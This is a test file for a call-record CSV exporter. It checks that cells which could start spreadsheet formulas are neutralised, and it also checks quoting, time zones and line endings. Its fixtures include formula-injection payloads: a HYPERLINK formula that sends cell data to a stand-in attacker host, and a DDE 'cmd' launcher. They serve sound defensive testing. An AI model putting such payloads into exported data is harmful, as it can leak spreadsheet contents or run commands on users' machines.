import type { Call } from '@roy/types'
import { parse } from 'csv-parse/sync'
import { describe, expect, test } from 'vitest'
import { csvColumns, csvHeader, csvLines, textCell } from './calls.csv.ts'

const call: Call = {
  id: '9a1c3e5b-7d2f-4b6a-8c0e-1f3a5b7c9d44',
  external_call_id: 'call_1',
  organization_id: '7d1f3c5e-6c1b-4f1e-9c3b-8f6d0a2b4c11',
  agent_id: '0f4b6d7a-52a6-4e0c-8a5d-3a7b9c1d2e33',
  agent_name: 'Front desk',
  call_type: 'phone_call',
  direction: 'inbound',
  from_e164: '+14155550100',
  to_e164: null,
  status: 'ended',
  disconnection_reason: 'user_hangup',
  duration_seconds: 61,
  billed_minutes: '2.0000',
  is_billable: true,
  billable_reason: 'default',
  is_billable_overridden: false,
  revenue: '0.5000',
  currency: 'USD',
  provider_cost: '1.500000',
  margin: '-1.000000',
  sentiment: null,
  successful: false,
  detailed_summary: 'Booked.',
  started_at: '2026-03-29T00:59:59.000Z',
  ended_at: null,
}

const read = (calls: Call[], options = { timezone: 'UTC', withCosts: true }): Record<string, string>[] => {
  const columns = csvColumns(options)
  return parse(csvHeader(columns) + csvLines(columns, calls), { bom: true, columns: true })
}

describe('a cell of text', () => {
  test.each([
    ['=HYPERLINK("https://evil.example.com?"&A1)', `'=HYPERLINK("https://evil.example.com?"&A1)`],
    ['+14155550100', "'+14155550100"],
    ['-2+3+cmd|" /C calc"!A0', `'-2+3+cmd|" /C calc"!A0`],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['\n=1+1', "'\n=1+1"],
    ['＝1+1', "'＝1+1"],
    ['＋1', "'＋1"],
    ['－1', "'－1"],
    ['＠SUM(A1)', "'＠SUM(A1)"],
    ["'=1+1", "'=1+1"],
    ['1+1=2', '1+1=2'],
    ['Asked for 20% off - twice', 'Asked for 20% off - twice'],
    ['', ''],
    [null, ''],
  ])('%j stands as %j', (text, cell) => {
    expect(textCell(text)).toBe(cell)
  })
})

describe('an exported call', () => {
  test('has no text from outside that a spreadsheet would calculate, whichever field it is in', () => {
    const fields = [
      'external_call_id',
      'agent_name',
      'from_e164',
      'to_e164',
      'disconnection_reason',
      'detailed_summary',
    ]
    const hostile = Object.fromEntries(fields.map((field) => [field, '=1+1']))
    const [row = {}] = read([{ ...call, ...hostile }])
    for (const field of fields) expect(row[field]).toBe("'=1+1")
    const calculated = Object.entries(row).filter(([, cell]) => /^[=+@\t\r\n-]/.test(cell))
    expect(calculated).toEqual([['margin', '-1.000000']]) // a number, and ours
  })

  test('keeps quotes, separators, line ends and every script', () => {
    const detailed_summary = 'Said "no", then; left.\r\nNext\nlast\rÄÖÜ Ünïcödé 日本語 العربية 👩‍👧 \u2028 x'
    expect(read([{ ...call, detailed_summary }, call]).map((row) => row.detailed_summary)).toEqual([
      detailed_summary,
      'Booked.',
    ])
  })

  test.each([
    ['UTC', '2026-03-29 00:59:59'],
    ['Europe/Berlin', '2026-03-29 01:59:59'],
    ['Asia/Kolkata', '2026-03-29 06:29:59'],
    ['America/New_York', '2026-03-28 20:59:59'],
  ])('has its start as the clocks in %s showed it', (timezone, started_at_local) => {
    expect(read([call], { timezone, withCosts: false })[0]).toMatchObject({
      started_at_local,
      timezone,
      started_at: call.started_at,
    })
  })

  test('names midnight 00, and has the hour after the clocks went forward', () => {
    const started = (started_at: string) =>
      read([{ ...call, started_at }], { timezone: 'Europe/Berlin', withCosts: false })[0]?.started_at_local
    expect(started('2026-03-28T23:00:00.000Z')).toBe('2026-03-29 00:00:00')
    expect(started('2026-03-29T01:00:00.000Z')).toBe('2026-03-29 03:00:00')
  })

  test('has costs only where asked for, and is otherwise the call of the list', () => {
    expect(read([call], { timezone: 'UTC', withCosts: false })[0]).not.toHaveProperty('provider_cost')
    const [row = {}] = read([call])
    const { started_at_local: _, timezone: __, ...fields } = row
    const expected = Object.fromEntries(Object.entries(call).map(([name, value]) => [name, String(value ?? '')]))
    expect(fields).toEqual({ ...expected, from_e164: "'+14155550100" })
  })
})

describe('the file', () => {
  test('begins with a byte order mark and ends each line with CR LF', () => {
    const columns = csvColumns({ timezone: 'UTC', withCosts: false })
    const text = csvHeader(columns) + csvLines(columns, [call, call])
    expect(Buffer.from(text).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
    expect(text.match(/\r\n/g)).toHaveLength(3)
    expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/)
    expect(text.slice(1)).not.toContain('\ufeff')
  })
})
